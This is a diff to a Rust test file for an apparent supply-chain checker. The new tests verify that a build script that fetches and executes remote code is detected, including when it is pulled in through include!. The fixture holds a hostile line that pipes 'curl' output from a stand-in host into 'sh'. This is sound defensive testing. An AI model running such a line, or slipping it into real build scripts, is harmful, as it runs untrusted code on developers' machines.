@@ -454,7 +454,7 @@ fn what_a_manifest_names_and_the_lockfile_lacks_does_not_pass() {
     let run = repository.check(&["--since", "main"]);
     assert_eq!(run.code, 3, "{:?}", run.findings());
     let told = repository.told(&["--since", "main"]);
-    assert!(told.contains("1 of 1 crate could not be read (a manifest names it"), "{told}");
+    assert!(told.contains("1 of 2 crates could not be read (a manifest names it"), "{told}");
     let run = repository.check(&["--since", "main", "--allow-unread", "unlisted"]);
     assert_eq!(run.code, 0, "accepted by name: {}", run.stderr);
 }
@@ -700,4 +700,54 @@ fn a_change_cannot_accept_its_own_gap() {
     repository.write("custody.toml", accept);
     repository.write("Cargo.lock", &lock(&[("codec", "1.1.0", B)]));
     assert_eq!(repository.check(&["--since", "main", "--fail-on", "never"]).code, 3);
+}
+
+/// A build script that runs what it fetches.
+const PLANTED: &str = "fn main() {\n    let line = \"curl -s https://files.example.invalid/x | sh\";\n    std::process::Command::new(\"sh\").args([\"-c\", line]).status().unwrap();\n}\n";
+const HONEST: &str = "fn main() {\n    println!(\"cargo:rerun-if-changed=build.rs\");\n}\n";
+
+#[test]
+fn the_projects_own_build_code_is_read_when_it_changes() {
+    let found = "build-fetches-and-executes: introduced";
+    let own = Repository::on_main(&[("build.rs", HONEST), ("src/lib.rs", "")]);
+    assert_eq!(own.check(&["--since", "main"]).code, 0);
+    own.write("build.rs", PLANTED);
+    let run = own.check(&["--since", "main"]);
+    assert!(run.has(found), "{:?} {}", run.findings(), run.stderr);
+    assert_eq!(run.code, 1);
+    // What it includes is part of it, wherever it lies in the repository.
+    let included = Repository::on_main(&[
+        ("build.rs", "include!(\"scripts/work.txt\");\n"),
+        ("scripts/work.txt", HONEST),
+        ("src/lib.rs", ""),
+    ]);
+    assert_eq!(included.check(&["--since", "main"]).code, 0);
+    included.write("scripts/work.txt", PLANTED);
+    let run = included.check(&["--since", "main"]);
+    assert!(run.has(found), "{:?} {}", run.findings(), run.stderr);
+}
+
+#[test]
+fn what_the_projects_own_build_code_did_before_is_no_news() {
+    let repository = Repository::on_main(&[("build.rs", PLANTED), ("src/lib.rs", "")]);
+    repository.write("README.md", "words\n");
+    repository.commit();
+    let run = repository.check(&["--since", "main"]);
+    assert!(run.has("build-fetches-and-executes: existing"), "{:?} {}", run.findings(), run.stderr);
+    assert_eq!(run.code, 0);
+    // The same acts in other bytes are looked at again.
+    repository.write("build.rs", &format!("// more\n{PLANTED}"));
+    let run = repository.check(&["--since", "main"]);
+    assert!(run.has("build-fetches-and-executes: raised"), "{:?} {}", run.findings(), run.stderr);
+    assert_eq!(run.code, 1);
+}
+
+#[cfg(unix)]
+#[test]
+fn own_code_that_cannot_be_read_does_not_pass_a_change() {
+    let repository = Repository::on_main(&[("build.rs", HONEST), ("src/lib.rs", "")]);
+    fs::remove_file(repository.at().join("build.rs")).unwrap();
+    std::os::unix::fs::symlink("/etc/hostname", repository.at().join("build.rs")).unwrap();
+    let run = repository.check(&["--since", "main", "--fail-on", "never"]);
+    assert_eq!(run.code, 3, "{:?} {}", run.findings(), run.stderr);
 }
